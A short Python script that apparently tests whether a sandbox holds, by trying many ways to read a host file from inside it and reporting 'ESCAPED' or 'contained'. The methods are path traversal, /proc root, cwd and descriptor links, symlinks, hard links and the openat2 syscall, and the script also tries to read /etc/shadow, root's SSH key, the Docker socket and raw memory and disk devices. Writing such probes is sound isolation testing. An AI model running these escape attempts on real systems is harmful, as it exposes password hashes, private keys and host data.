# Attacks: files of the host, by every way of naming one.
# Standard input: the absolute path of a file outside the cell whose content begins with SECRET.
# Success: its content was read. Also counted: the host's password hashes and keys.
import ctypes
import os

secret = input().strip()
found = []


def attempt(how, path):
    try:
        with open(path, "rb") as f:
            if f.read(6) == b"SECRET":
                found.append(how)
    except (OSError, ValueError):
        pass


attempt("path", secret)
attempt("dots", "../" * 40 + secret.lstrip("/"))
for root in ("/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/task/%d/root" % os.getpid()):
    attempt(root, root + secret)
    attempt(root + "/..", root + "/../../.." + secret)
for cwd in ("/proc/1/cwd", f"/proc/{os.getppid()}/cwd"):
    attempt(cwd, cwd + "/../../../../../.." + secret)
for fd in range(256):
    attempt(f"descriptor {fd}", f"/proc/self/fd/{fd}/../../../../../.." + secret)
    attempt(f"descriptor {fd}", f"/proc/self/fd/{fd}" + secret)
for make in (os.symlink, os.link):
    try:
        make(secret, "here")
        attempt(make.__name__, "here")
        os.unlink("here")
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
how = (ctypes.c_uint64 * 3)(0, 0, 0)
fd = libc.syscall(437, -100, secret.encode(), how, 24)
if fd >= 0:
    found.append("openat2")
for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/var/run/docker.sock", "/proc/kcore", "/dev/mem", "/dev/sda", "/proc/kallsyms"):
    try:
        with open(path, "rb") as f:
            head = f.read(64)
        if head and not (path == "/proc/kallsyms" and head.startswith(b"0000000000000000")):
            found.append(path)
    except OSError:
        pass
print("ESCAPED: " + ", ".join(found) if found else "contained")
